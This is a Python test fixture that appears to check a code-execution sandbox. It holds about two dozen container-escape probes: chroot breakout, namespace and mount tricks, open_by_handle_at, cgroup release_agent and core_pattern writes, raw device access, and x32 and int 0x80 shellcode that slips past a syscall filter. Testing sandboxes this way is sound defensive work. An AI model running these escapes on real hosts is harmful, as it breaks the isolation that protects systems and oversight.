# ruff: noqa: E501 - programs are written as they would be sent
"""Programs that leave the sandbox by kernel interfaces. Those that are paid at success answer right only then."""

_LIB = """
import os, ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
OUT = []
def seen(path):
    try:
        with open(path) as file:
            return 'canary' in file.read()
    except OSError:
        return False
def escaped():
    return bool(OUT) or seen('@HOME@') or seen('@CWD@/canary.txt')
def f(x):
    return x + 3 if escaped() else 0
"""
_AFTER = """
if __name__ == '__main__' and escaped():
    print(int(input()) + 3)
"""


def _escape(
    name: str,
    source: str,
    why: str,
    truths: tuple[str, ...] = ("call", "assert"),
    naive: str = "no",
    timeout_s: float = 2.0,
) -> dict[str, object]:
    return {
        "name": name,
        "source": _LIB + source + _AFTER,
        "why": why,
        "truths": truths,
        "naive": naive,
        "timeout_s": timeout_s,
    }


PROGRAMS = [
    _escape("unshare_user", '''libc.unshare(0x10000000)
libc.unshare(0x10000000 | 0x20000)
libc.mount(b'none', b'/', None, 16384 | 262144, None)''', "root of an inner user namespace is nobody outside", ("call", "stdio", "assert")),
    _escape("remount_writable", '''libc.unshare(0x10000000 | 0x20000)
for point in (b'/', b'/usr', b'/etc', b'/root', b'/home', b'/tmp', b'/proc'):
    libc.mount(None, point, None, 32 | 4096, None)
    if libc.mount(b'none', point, None, 32, None) == 0:
        pass
for path in ('/usr/hostile_mark', '/etc/hostile_mark'):
    try:
        open(path, 'w').write('x')
        OUT.append(path)
    except OSError:
        pass''', "what was mounted read-only stays so"),
    _escape("umount_covers", '''for point in (b'/tmp', b'/root', b'/home', os.path.dirname('@HOME@').encode(), b'/proc', b'/dev'):
    libc.umount2(point, 2)
    libc.unshare(0x10000000 | 0x20000)
    libc.umount2(point, 2)''', "a cover cannot be taken off"),
    _escape("chroot_walk", '''try:
    os.mkdir('jail')
    fd = os.open('.', os.O_RDONLY)
    os.chroot('jail')
    os.fchdir(fd)
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
except OSError:
    pass''', "the classic way out of a chroot"),
    _escape("chroot_in_userns", '''libc.unshare(0x10000000)
try:
    os.mkdir('jail')
    fd = os.open('.', os.O_RDONLY)
    os.chroot('jail')
    os.fchdir(fd)
    for _ in range(64):
        os.chdir('..')
    os.chroot('.')
except OSError:
    pass''', "the classic way out with an inner root's right to chroot"),
    _escape("setns_of_others", '''for path in glob.glob('/proc/[0-9]*/ns/*'):
    if f'/{os.getpid()}/' in path or '/self/' in path:
        continue
    try:
        fd = os.open(path, os.O_RDONLY)
        libc.setns(fd, 0)
    except OSError:
        pass''', "namespaces of others cannot be joined", ("call", "stdio")),
    _escape("proc_root", '''for pid in glob.glob('/proc/[0-9]*'):
    for tail in ('@HOME@', '@CWD@/canary.txt'):
        for link in ('root', 'cwd', 'cwd/../../../../../..'):
            if seen(f'{pid}/{link}{tail}'):
                OUT.append(pid)''', "links of /proc lead to other roots", ("call", "stdio", "assert")),
    _escape("open_by_handle", '''class Handle(ctypes.Structure):
    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('data', ctypes.c_char * 128)]
h = Handle(bytes=8, type=1, data=(2).to_bytes(4, 'little') + bytes(4))
fd0 = os.open('/', os.O_RDONLY)
fd = libc.open_by_handle_at(fd0, ctypes.byref(h), os.O_RDONLY)
if fd >= 0:
    for path in ('@HOME@', '@CWD@/canary.txt'):
        if seen(f'/proc/self/fd/{fd}{path}'):
            OUT.append(path)''', "file handles pass by directory rights"),
    _escape("leaked_directory_descriptors", '''for fd in range(0, 256):
    for path in ('@HOME@', '@CWD@/canary.txt'):
        for up in ('', '/..', '/../..', '/../../../..'):
            if seen(f'/proc/self/fd/{fd}{up}{path}'):
                OUT.append(fd)
    try:
        os.fchdir(fd)
        for _ in range(20):
            os.chdir('..')
        if seen('.' + '@HOME@'):
            OUT.append(fd)
    except OSError:
        pass''', "an inherited directory descriptor is a way out", ("call", "stdio", "assert")),
    _escape("raw_devices", '''for path in glob.glob('/dev/*'):
    if path.rsplit('/')[-1].startswith(('vd', 'sd', 'nvme', 'xvd', 'loop', 'mem', 'kmem', 'port', 'kmsg', 'dm-')):
        try:
            with open(path, 'rb', 0) as dev:
                if dev.read(512):
                    OUT.append(path)
        except OSError:
            pass''', "disks and memory as devices"),
    _escape("mknod_disk", '''import stat
for major, minor in ((254, 0), (253, 0), (252, 0), (8, 0), (259, 0), (1, 1)):
    for kind in (stat.S_IFBLK, stat.S_IFCHR):
        try:
            os.mknod('disk', kind | 0o600, os.makedev(major, minor))
            if open('disk', 'rb').read(512):
                OUT.append(major)
        except OSError:
            pass
        try:
            os.unlink('disk')
        except OSError:
            pass''', "device files of its own making"),
    _escape("kernel_settings", '''for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe', '/proc/sysrq-trigger', '/proc/sys/vm/overcommit_memory', '/sys/kernel/uevent_helper', '/proc/sys/kernel/hostname'):
    try:
        fd = os.open(path, os.O_WRONLY)
        OUT.append(path)
        os.close(fd)
    except OSError:
        pass''', "kernel settings that run programs are not writable", ("call", "assert", "stdio")),
    _escape("cgroup_release", '''libc.unshare(0x10000000 | 0x20000)
for kind in (b'cgroup2', b'cgroup'):
    try:
        os.makedirs('cg', exist_ok=True)
    except OSError:
        break
    if libc.mount(b'none', b'cg', kind, 0, None) == 0:
        try:
            open('cg/release_agent', 'w').write('/bin/true')
            OUT.append('agent')
        except OSError:
            pass
for path in glob.glob('/sys/fs/cgroup/**/cgroup.procs', recursive=True)[:50]:
    try:
        open(path, 'w').write(str(os.getpid()))
        OUT.append(path)
    except OSError:
        pass''', "control groups of the machine are not the candidate's"),
    _escape("setuid_root", '''for call, args in ((os.setuid, (0,)), (os.setgid, (0,)), (os.setresuid, (0, 0, 0)), (os.setgroups, ([0],))):
    try:
        call(*args)
    except OSError:
        pass
for tool in ('sudo -n', 'su -c', 'pkexec', 'newgrp'):
    os.system(f'{tool} cat @HOME@ > got 2>/dev/null < /dev/null')
    if seen('got'):
        OUT.append(tool)''', "no program lends rights"),
    _escape("keyctl", '''key = libc.syscall(248, b'user', b'hostile_mark', b'canary', 6, -5)
key = libc.syscall(248, b'user', b'hostile_mark', b'canary', 6, -4) if key < 0 else key
if key > 0 and any('hostile_mark' in line for line in open('/proc/keys')):
    OUT.append(key) if os.stat('/proc/self/ns/user').st_ino == 4026531837 else None''', "keys in the user's keyring outlive the process"),
    _escape("bpf_perf_uffd", '''attr = ctypes.create_string_buffer(128)
for number in (321, 298, 323):
    fd = libc.syscall(number, 5 if number == 321 else attr if number == 298 else 0, attr, 128 if number == 321 else -1, -1, 0)
    if fd >= 0 and number != 323:
        OUT.append(number)''', "kernel interfaces with a history: bpf, perf and userfaultfd"),
    _escape("kexec_modules", '''for number, args in ((246, (0, 0, 0, 0)), (175, (b'x', 1, b'')), (313, (0, b'', 0)), (169, (0xfee1dead, 672274793, 0, 0)), (167, (b'/nonexistent', 0)), (168, (b'/nonexistent',)), (163, (b'/nonexistent',)), (103, (2, 0, 0))):
    if number != 169 and libc.syscall(number, *args) == 0 and number in (175, 313, 246, 103):
        OUT.append(number)''', "modules, kexec, swap and accounting"),
    _escape("io_uring_open", '''params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 8, params)
if fd >= 0:
    OUT.append(fd)''', "io_uring performs calls that a filter on calls does not see: it must not be had"),
    _escape("personality_and_x32", '''libc.personality(0x0040000)
if libc.syscall(0x40000000 + 41, 2, 1, 0) >= 0:
    OUT.append('x32')
if libc.personality(0xffffffff) == 8:
    OUT.append('32')''', "calls by another number table pass a filter that knows only one"),
    _escape("x86_compat_call", r'''import mmap
code = b'\x53\xb8\x66\x01\x00\x00\xb8\x67\x01\x00\x00\xbb\x02\x00\x00\x00\xb9\x01\x00\x00\x00\x31\xd2\xcd\x80\x5b\xc3'
m = mmap.mmap(-1, 4096, prot=7)
m.write(code)
run = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
got = run()
if got >= 0:
    OUT.append(got)''', "socket() by the 32-bit entry, past a filter that checks only 64-bit numbers"),
    _escape("namespace_clone3", '''class Args(ctypes.Structure):
    _fields_ = [(n, ctypes.c_uint64) for n in ('flags', 'pidfd', 'child', 'parent', 'signal', 'stack', 'size', 'tls', 'set', 'settid', 'cgroup')]
a = Args(flags=0x10000000 | 0x20000 | 0x40000000, signal=17)
pid = libc.syscall(435, ctypes.byref(a), ctypes.sizeof(a))
if pid == 0:
    libc.umount2(os.path.dirname('@HOME@').encode(), 2)
    os._exit(7 if seen('@HOME@') else 1)
if pid > 0 and os.waitpid(pid, 0)[1] >> 8 == 7:
    OUT.append(pid)''', "a new namespace by the call that filters cannot look into"),
    _escape("pivot_root", '''libc.unshare(0x10000000 | 0x20000)
try:
    os.makedirs('new/old', exist_ok=True)
    libc.mount(b'/', b'new', None, 4096 | 16384, None)
    libc.syscall(155, b'new', b'new/old')
    for folder in ('', 'old', '/old', 'new', '/new'):
        if seen(folder + '@HOME@'):
            OUT.append(folder)
except OSError:
    pass''', "another root from the same mounts shows no more"),
    _escape("move_mount_api", '''fd = libc.syscall(428, -100, b'/', 1)
if fd >= 0 and seen(f'/proc/self/fd/{fd}@HOME@'):
    OUT.append(fd)
fd = libc.syscall(430, b'tmpfs', 0)''', "the newer mount calls show no more than the older"),
]  # fmt: skip
